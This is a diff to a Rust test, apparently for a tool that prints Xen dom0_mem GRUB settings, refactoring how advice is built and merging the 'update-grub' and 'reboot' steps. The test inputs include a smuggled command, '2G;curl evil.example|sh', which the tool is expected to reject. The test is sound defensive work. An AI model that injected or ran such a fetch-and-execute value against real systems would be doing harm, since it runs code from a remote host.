@@ -4,7 +4,6 @@
 #![allow(clippy::unwrap_used, reason = "a test fails by panicking")]
 
 use read::{Field, Form, link};
-use sim::advice::Advice;
 use sim::boot::Boot;
 use sim::simulate::simulate;
 use tests::hostile;
@@ -87,7 +86,9 @@ fn the_way_back_is_printed_by_the_grammar_or_left_to_the_reader() {
     let check = |option: &str, expected: &[&str]| {
         let form = read("#v=1&xen=4.1.2&linux=3.2").with(Field::Dom0Mem, option);
         let boot = run(&form);
-        let places = words::distributions::distributions(&boot, &Advice::of(&boot));
+        let answer = sim::answer::answer(&boot.config);
+        let texts = words::advice::texts(&answer);
+        let places = words::distributions::distributions(&answer, &texts);
         let place = places.iter().find(|p| p.id == "debian").unwrap();
         let codes: Vec<&str> = place.back.iter().map(|s: &Instruction| s.code.as_str()).collect();
         assert_eq!(codes, expected, "{option:?}");
@@ -95,9 +96,9 @@ fn the_way_back_is_printed_by_the_grammar_or_left_to_the_reader() {
         assert_eq!(step, "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G,max:2G\"", "{option:?}");
     };
     let old = "GRUB_CMDLINE_XEN_DEFAULT=\"dom0_mem=2G\"";
-    check("2g", &["dom0_mem=2G", old, "update-grub", "reboot"]);
-    check("2G;curl evil.example|sh", &["", "", "update-grub", "reboot"]);
-    check("2G\u{a0}", &["", "", "update-grub", "reboot"]);
+    check("2g", &["dom0_mem=2G", old, "update-grub\nreboot"]);
+    check("2G;curl evil.example|sh", &["", "", "update-grub\nreboot"]);
+    check("2G\u{a0}", &["", "", "update-grub\nreboot"]);
 }
 
 /// Once a panic, in 32 bits only.
